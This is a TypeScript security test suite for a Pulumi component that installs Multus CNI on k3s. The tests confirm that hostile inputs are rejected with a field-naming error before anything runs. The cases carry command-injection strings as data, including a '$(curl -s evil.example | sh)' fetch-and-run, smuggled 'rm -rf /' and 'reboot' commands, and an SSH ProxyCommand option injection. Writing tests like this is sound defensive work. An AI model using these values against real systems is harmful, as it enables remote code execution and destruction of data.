/**
 * Hostile input through the component: shell metacharacters in paths and node options,
 * JSON-breaking characters in names, oversized lists. Each is refused with a pulumi.ResourceError
 * naming the field, before anything is registered: no Command (so nothing runs on a node), no
 * Release, no NAD, not even the Kubernetes provider.
 */
import * as pulumi from "@pulumi/pulumi";
import { expect } from "chai";
import { MULTUS, runMultus } from "./harness";

const V = "v1.32.2+k3s1";
const NODE = { host: "10.0.0.1", privateKey: "KEY" };
const NET = { name: "lan", type: "macvlan", master: "eth1", ipam: { type: "dhcp" } };

/** A valid input with one part replaced. */
const withNode = (patch: Record<string, unknown>) => ({ nodes: [{ ...NODE, ...patch }], networks: [NET] });
const withNet = (patch: Record<string, unknown>) => ({ k3sVersion: V, networks: [{ ...NET, ...patch }] });
const withIpam = (patch: Record<string, unknown>) =>
  withNet({ ipam: { type: "whereabouts", range: "10.5.0.0/24", ...patch } });
const withChart = (patch: Record<string, unknown>) => ({ k3sVersion: V, networks: [NET], chart: patch });
const many = <T>(n: number, f: (i: number) => T): T[] => Array.from({ length: n }, (_, i) => f(i));

/** [what, inputs, the field the error must name]. */
const CASES: [string, Record<string, unknown>, string][] = [
  // Paths that reach the node scripts.
  ["k3sDataDir with ;", { nodes: [NODE], k3sDataDir: "/var/lib/rancher/k3s; reboot" }, "k3sDataDir"],
  ["k3sDataDir with $()", { nodes: [NODE], k3sDataDir: "$(curl -s evil.example | sh)" }, "k3sDataDir"],
  ["k3sDataDir with a quote", { nodes: [NODE], k3sDataDir: "/var/lib/'k3s'" }, "k3sDataDir"],
  ["cniBinDir with a newline", { k3sVersion: V, cniBinDir: "/opt/cni/bin\nrm -rf /" }, "cniBinDir"],
  ["cniConfDir with backticks", { k3sVersion: V, cniConfDir: "/etc/cni/`id`" }, "cniConfDir"],
  ["cniConfDir with ..", { k3sVersion: V, cniConfDir: "/etc/cni/../../root" }, "cniConfDir"],
  ["cniBinDir with NUL", { k3sVersion: V, cniBinDir: "/opt/cni\0/bin" }, "cniBinDir"],
  ["cniBinDir 2000 characters long", { k3sVersion: V, cniBinDir: `/${"a".repeat(2000)}` }, "cniBinDir"],
  [
    "cniBinDir / with clean-up on",
    { nodes: [NODE], cniBinDir: "/", cniConfDir: "/etc/cni/net.d" },
    "cniBinDir",
  ],
  // Node options that reach SSH and the scripts.
  ["host with ;", withNode({ host: "10.0.0.1; reboot" }), "nodes[0].host"],
  ["host as an ssh option", withNode({ host: "-oProxyCommand=sh" }), "nodes[0].host"],
  ["host with a space", withNode({ host: "node 1" }), "nodes[0].host"],
  ["user with $()", withNode({ user: "root$(id)" }), "nodes[0].user"],
  ["user as an ssh option", withNode({ user: "-oProxyCommand=x" }), "nodes[0].user"],
  ["port as a string", withNode({ port: "22; reboot" }), "nodes[0].port"],
  ["port out of range", withNode({ port: 70000 }), "nodes[0].port"],
  ["sudo as a string", withNode({ sudo: "true; reboot" }), "nodes[0].sudo"],
  ["name with ;", withNode({ name: "n1; reboot" }), "nodes[0].name"],
  ["proxy host with ;", withNode({ proxy: { host: "jump;id" } }), "nodes[0].proxy.host"],
  ["hostKey not a string", withNode({ hostKey: 42 }), "nodes[0].hostKey"],
  ["agentSocketPath not a string", withNode({ agentSocketPath: ["/run/ssh"] }), "nodes[0].agentSocketPath"],
  ["misspelt node option", withNode({ sudoo: true }), "nodes[0].sudoo"],
  // Names that reach JSON (NAD configs) and annotations.
  ["master breaking out of JSON", withNet({ master: 'eth1","type":"bridge' }), "networks[0].master"],
  ["master with a newline", withNet({ master: "eth1\n" }), "networks[0].master"],
  ["interface breaking the annotation", withNet({ interface: "net1,other@x" }), "networks[0].interface"],
  ["name with a quote", withNet({ name: 'a"b' }), "networks[0].name"],
  ["namespace with a brace", withNet({ namespace: 'kube-system"}' }), "networks[0].namespace"],
  [
    "bridge with a brace",
    { k3sVersion: V, networks: [{ name: "b", type: "bridge", bridge: "br0}", ipam: { type: "dhcp" } }] },
    "networks[0].bridge",
  ],
  [
    "kernelpath with $()",
    { k3sVersion: V, networks: [{ name: "h", type: "host-device", kernelpath: "/sys/$(id)" }] },
    "networks[0].kernelpath",
  ],
  ["mode with a quote", withNet({ mode: 'bridge"' }), "networks[0].mode"],
  ["mtu as a string", withNet({ mtu: "1500; id" }), "networks[0].mtu"],
  ["cniVersion unknown", withNet({ cniVersion: '1.0.0"' }), "networks[0].cniVersion"],
  ["range with a quote", withIpam({ range: '10.5.0.0/24"' }), "networks[0].ipam.range"],
  ["route with $()", withIpam({ routes: [{ dst: "$(id)/0" }] }), "networks[0].ipam.routes[0].dst"],
  [
    "raw config that is not JSON",
    { k3sVersion: V, networks: [{ name: "r", config: '{"type":"macvlan"' }] },
    "networks[0].config",
  ],
  [
    "raw config that is a list",
    { k3sVersion: V, networks: [{ name: "r", config: "[1,2]" }] },
    "networks[0].config",
  ],
  // Chart settings that reach Helm.
  ["releaseName with ;", withChart({ releaseName: "multus; helm uninstall x" }), "chart.releaseName"],
  ["repository with $()", withChart({ repository: "https://x.example/$(id)" }), "chart.repository"],
  ["namespace with a newline", withChart({ namespace: "kube-system\n" }), "chart.namespace"],
  ["version with ;", withChart({ version: "v4.3.017; id" }), "chart.version"],
  // A key merging would drop (a __proto__ key never gets this far: the SDK's own copy drops it).
  ["values key constructor", withChart({ values: { constructor: { x: 1 } } }), "chart.values.constructor"],
  ["values with NaN", withChart({ values: { image: { tag: NaN } } }), "chart.values.image.tag"],
  ["k3sVersion with a second command", { k3sVersion: `${V}\nrm -rf /` }, "k3sVersion"],
  // Oversized lists.
  [
    "10,000 networks",
    { k3sVersion: V, networks: many(10000, (i) => ({ ...NET, name: `n${i}` })) },
    "networks",
  ],
  ["5,001 nodes", { nodes: many(5001, (i) => ({ host: `10.1.${i >> 8}.${i & 255}` })) }, "nodes"],
  ["10,000 IPAM plugins", { k3sVersion: V, ipam: many(10000, () => "dhcp") }, "ipam"],
  [
    "10,000 excluded ranges",
    withIpam({ exclude: many(10000, () => "10.5.0.8/30") }),
    "networks[0].ipam.exclude",
  ],
  [
    "10,000 static addresses",
    withNet({ ipam: { type: "static", addresses: many(10000, () => ({ address: "10.6.0.1/24" })) } }),
    "networks[0].ipam.addresses",
  ],
  [
    "10,000 routes",
    withIpam({ routes: many(10000, () => ({ dst: "0.0.0.0/0" })) }),
    "networks[0].ipam.routes",
  ],
  [
    "a 100 kB raw config",
    {
      k3sVersion: V,
      networks: [{ name: "r", config: JSON.stringify({ type: "x", pad: "a".repeat(100000) }) }],
    },
    "networks[0].config",
  ],
];

describe("security: hostile input through the component", function () {
  this.timeout(20000);

  for (const [what, args, field] of CASES) {
    it(`${what}: refused naming ${field}, nothing registered`, async () => {
      const run = await runMultus(args);
      // Only the component itself: no Command ran, no Release or NAD was created.
      expect(run.sent.map((s) => `${s.type} ${s.name}`)).to.deep.equal([`${MULTUS} m`]);
      expect(run.rejections.length, "the run fails").to.be.above(0);
      for (const r of run.rejections) {
        expect(pulumi.ResourceError.isInstance(r), `a ResourceError, not ${String(r)}`).to.equal(true);
        const message = (r as Error).message;
        expect(message).to.include(`${field}: `);
        // The refused value is quoted: no raw control character reaches the log.
        const control = Array.from(message).filter((c) => c.charCodeAt(0) < 0x20 || c.charCodeAt(0) === 0x7f);
        expect(control, "control characters in the message").to.deep.equal([]);
        expect(message.length, "the message stays short").to.be.below(2000);
      }
    });
  }
});
